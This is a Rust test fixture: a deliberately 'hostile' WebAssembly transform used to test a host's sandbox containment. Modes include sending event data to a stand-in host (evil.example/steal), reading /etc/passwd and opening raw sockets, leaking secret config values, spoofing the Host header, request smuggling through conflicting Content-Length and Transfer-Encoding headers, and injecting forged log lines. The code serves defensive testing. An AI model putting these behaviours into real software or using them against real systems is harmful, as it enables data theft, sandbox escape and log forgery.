//! A deliberately misbehaving transform for the host's containment tests.
//! Config key `mode` selects the misbehaviour:
//!
//! | mode           | what `start` does                                        |
//! |----------------|----------------------------------------------------------|
//! | `ok`           | POSTs the event to config `url` (the control case)       |
//! | `loop`         | spins forever (fuel or the wall-clock deadline stop it)  |
//! | `sleep`        | sleeps an hour in a WASI poll (the host's timer stops it)|
//! | `state-loop`   | reads state 1000 times, then done (on a slow store the   |
//! |                | step's wall-clock deadline stops it)                     |
//! | `memory`       | allocates 1 MiB blocks until the memory cap stops it     |
//! | `trap`         | panics                                                   |
//! | `huge`         | returns 10.5 MB of requests (7 bodies of 1.5 MB)         |
//! | `flood`        | returns 24 MB of requests (over the host's copy budget)  |
//! | `forbidden`    | asks for a host outside its egress list                  |
//! | `plain-http`   | asks for `http://` on its declared host                  |
//! | `endless`      | asks for another request after every response            |
//! | `leak-secret`  | logs and prints its secret config value                  |
//! | `clock`        | reads WASI's clocks (the host gives the event's time)    |
//! | `random`       | asks WASI for random bytes without declaring it: traps   |
//! | `fetch`        | GETs config `to` (any URL: other ports, user info...)    |
//! | `host-header`  | POSTs to `url` with `Host: evil.example`                 |
//! | `framing`      | POSTs to `url` with a wrong `Content-Length` and TE      |
//! | `log-inject`   | logs and prints lines with CR, LF, NUL and ESC, then ok  |
//! | `escape`       | tries env, args, files, directories and a raw socket to  |
//! |                | `url`'s address; fails saying what it got               |

use ztbridge_sdk::{
    ConfigKey, EgressRule, EventInput, Failure, Guest, Info, Request, Response, Step, config,
    export, log, send,
};

// WASI's secure random, imported directly (this transform does not
// declare `needs-random`: the host traps the call).
#[link(wasm_import_module = "wasi:random/random@0.2.6")]
unsafe extern "C" {
    #[link_name = "get-random-u64"]
    fn get_random_u64() -> i64;
}

struct Hostile;

fn target() -> String {
    config::get_or("url", "https://allowed.example/ingest")
}

impl Guest for Hostile {
    fn describe() -> Info {
        let key = |name: &str, secret| ConfigKey {
            name: name.into(),
            description: String::new(),
            required: false,
            secret,
            default_value: None,
        };
        Info {
            name: "hostile".into(),
            version: "0.2.0".into(),
            description: "misbehaves on purpose (tests)".into(),
            egress: vec![
                EgressRule::Host("allowed.example".into()),
                EgressRule::ConfigUrl("url".into()),
            ],
            config: vec![
                key("mode", false),
                key("url", false),
                key("secret", true),
                key("to", false),
            ],
            needs_random: false,
        }
    }

    fn start(input: EventInput) -> Result<Step, Failure> {
        match config::get_or("mode", "ok").as_str() {
            "loop" => {
                let mut x: u64 = 0;
                loop {
                    x = std::hint::black_box(x.wrapping_add(1));
                }
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "sleep" => {
                std::thread::sleep(std::time::Duration::from_secs(3600));
                Ok(Step::Done("slept".into()))
            }
            "state-loop" => {
                let found = (0..1000)
                    .filter(|_| ztbridge_sdk::state::get("key").is_some())
                    .count();
                Ok(Step::Done(format!("read state, found {found}")))
            }
            "trap" => panic!("hostile transform panicking on purpose"),
            "clock" => {
                let wall = std::time::SystemTime::now()
                    .duration_since(std::time::UNIX_EPOCH)
                    .map(|d| d.as_millis())
                    .unwrap_or(0);
                Ok(Step::Done(format!("wall_ms={wall}")))
            }
            "random" => {
                // SAFETY: a WASI import with no arguments and an i64 result.
                let n = unsafe { get_random_u64() };
                Ok(Step::Done(format!("random={n}")))
            }
            "huge" => {
                // 10.5 MB in all: seven bodies of 1.5 MB, each over the 1 MiB
                // body limit, within the request count limit.
                let body = "x".repeat(3 << 19);
                let reqs = (0..7)
                    .map(|_| Request::post(&target()).body("text/plain", body.clone()))
                    .collect();
                Ok(send(reqs))
            }
            "flood" => {
                // 24 MB of output in one step: more than the host lets one
                // call copy out of the guest (hostcall budget).
                let body = "y".repeat(1_200_000);
                let reqs = (0..20)
                    .map(|_| Request::post(&target()).body("text/plain", body.clone()))
                    .collect();
                Ok(send(reqs))
            }
            "forbidden" => Ok(send(vec![
                Request::post("https://evil.example/steal")
                    .json(&serde_json::json!({"e": input.raw})),
            ])),
            "plain-http" => Ok(send(vec![
                Request::post("http://allowed.example/ingest").json(&serde_json::json!({})),
            ])),
            "leak-secret" => {
                let secret = config::get_or("secret", "");
                log::info(&format!("the secret is {secret}"));
                eprintln!("stderr secret {secret}");
                Err(ztbridge_sdk::failure::permanent(&format!(
                    "failed with secret {secret}"
                )))
            }
            "escape" => {
                let env = std::env::vars().count();
                let args = std::env::args().count();
                let file = std::fs::read("/etc/passwd").is_ok();
                let dir = std::fs::read_dir("/").is_ok() || std::fs::read_dir(".").is_ok();
                let addr = target()
                    .split("//")
                    .nth(1)
                    .and_then(|rest| rest.split('/').next())
                    .unwrap_or("127.0.0.1:1")
                    .to_string();
                let socket = std::net::TcpStream::connect(addr.as_str()).is_ok();
                Err(ztbridge_sdk::failure::permanent(&format!(
                    "escape: env={env} args={args} file={file} dir={dir} socket={socket}"
                )))
            }
            "fetch" => Ok(send(vec![Request::get(&config::get_or("to", ""))])),
            "host-header" => Ok(send(vec![
                Request::post(&target())
                    .header("Host", "evil.example")
                    .json(&serde_json::json!({})),
            ])),
            "framing" => Ok(send(vec![
                Request::post(&target())
                    .header("Content-Length", "5")
                    .header("Transfer-Encoding", "chunked")
                    .json(&serde_json::json!({"x": 1})),
            ])),
            "log-inject" => {
                log::info("first\n1999-01-01T00:00:00.000000Z ERROR FORGED-BY-LOG\r\0\u{1b}[2J");
                println!("stdout\rFORGED-BY-STDOUT\u{1b}[31m");
                Ok(send(vec![
                    Request::post(&target()).json(&serde_json::json!({"received": input.raw})),
                ]))
            }
            _ => Ok(send(vec![
                Request::post(&target()).json(&serde_json::json!({"received": input.raw})),
            ])),
        }
    }

    fn resume(responses: Vec<Response>) -> Result<Step, Failure> {
        if config::get_or("mode", "ok") == "endless" {
            return Ok(send(vec![
                Request::post(&target()).json(&serde_json::json!({})),
            ]));
        }
        match responses.first() {
            Some(Ok(r)) => Ok(Step::Done(format!("hostile ok: HTTP {}", r.status))),
            Some(Err(e)) => Err(ztbridge_sdk::failure::transport(e)),
            None => Ok(Step::Done("hostile ok: no response".into())),
        }
    }
}

export!(Hostile);
